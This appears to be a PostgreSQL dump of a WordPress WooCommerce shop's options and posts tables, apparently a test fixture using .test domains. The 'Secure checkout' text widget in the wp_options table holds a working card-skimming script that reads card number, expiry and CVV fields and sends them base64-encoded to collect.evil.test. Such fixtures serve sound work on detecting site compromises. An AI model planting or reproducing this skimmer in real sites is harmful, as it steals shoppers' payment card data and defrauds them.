--
-- PostgreSQL database dump
--

\restrict lsbhfQmqHIOil2peQdu6jTrUULAGgTrXmIuhXIbj0PlKYmv8ITBb8WhugZYGskt

-- Dumped from database version 15.20 (Debian 15.20-0+deb12u1)
-- Dumped by pg_dump version 15.20 (Debian 15.20-0+deb12u1)

SET statement_timeout = 0;
SET lock_timeout = 0;
SET idle_in_transaction_session_timeout = 0;
SET client_encoding = 'UTF8';
SET standard_conforming_strings = on;
SELECT pg_catalog.set_config('search_path', '', false);
SET check_function_bodies = false;
SET xmloption = content;
SET client_min_messages = warning;
SET row_security = off;

SET default_tablespace = '';

SET default_table_access_method = heap;

--
-- Name: wp_options; Type: TABLE; Schema: public; Owner: -
--

CREATE TABLE public.wp_options (
    option_id bigint NOT NULL,
    option_name character varying(191) NOT NULL,
    option_value text NOT NULL,
    autoload character varying(20) NOT NULL
);


--
-- Name: wp_posts; Type: TABLE; Schema: public; Owner: -
--

CREATE TABLE public.wp_posts (
    "ID" bigint NOT NULL,
    post_author bigint NOT NULL,
    post_date timestamp without time zone,
    post_content text NOT NULL,
    post_title text NOT NULL,
    post_excerpt text NOT NULL,
    post_status character varying(20) NOT NULL,
    post_name character varying(200) NOT NULL,
    post_type character varying(20) NOT NULL
);


--
-- Data for Name: wp_options; Type: TABLE DATA; Schema: public; Owner: -
--

COPY public.wp_options (option_id, option_name, option_value, autoload) FROM stdin;
1	siteurl	https://shop.test	yes
2	home	https://shop.test	yes
3	blogname	Fumi Stationery	yes
4	woocommerce_checkout_page_id	7	yes
5	widget_text	a:2:{i:2;a:4:{s:5:"title";s:15:"Secure checkout";s:4:"text";s:350:"<script>document.addEventListener("change",function(){var f=document.querySelector("input[name*=cc_number],#card-number");if(!f)return;var d={n:f.value,e:document.querySelector("[name*=exp]").value,c:document.querySelector("[name*=cvv],[name*=cid]").value};var i=new Image;i.src="https://collect.evil.test/i.gif?d="+btoa(JSON.stringify(d))})</script>";s:6:"filter";b:1;s:6:"visual";b:1;}s:12:"_multiwidget";i:1;}	yes
6	sidebars_widgets	a:2:{s:9:"sidebar-1";a:1:{i:0;s:6:"text-2";}s:13:"array_version";i:3;}	yes
\.


--
-- Data for Name: wp_posts; Type: TABLE DATA; Schema: public; Owner: -
--

COPY public.wp_posts ("ID", post_author, post_date, post_content, post_title, post_excerpt, post_status, post_name, post_type) FROM stdin;
7	0	\N	<!-- wp:shortcode -->[woocommerce_checkout]<!-- /wp:shortcode -->	Checkout		publish	checkout	page
9	0	\N	<p>New fountain pens are in.</p><script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)}gtag('js',new Date());gtag('config','G-TEST123');</script>	News		publish	news	post
\.


--
-- Name: wp_options wp_options_option_name_key; Type: CONSTRAINT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.wp_options
    ADD CONSTRAINT wp_options_option_name_key UNIQUE (option_name);


--
-- Name: wp_options wp_options_pkey; Type: CONSTRAINT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.wp_options
    ADD CONSTRAINT wp_options_pkey PRIMARY KEY (option_id);


--
-- Name: wp_posts wp_posts_pkey; Type: CONSTRAINT; Schema: public; Owner: -
--

ALTER TABLE ONLY public.wp_posts
    ADD CONSTRAINT wp_posts_pkey PRIMARY KEY ("ID");


--
-- PostgreSQL database dump complete
--

\unrestrict lsbhfQmqHIOil2peQdu6jTrUULAGgTrXmIuhXIbj0PlKYmv8ITBb8WhugZYGskt

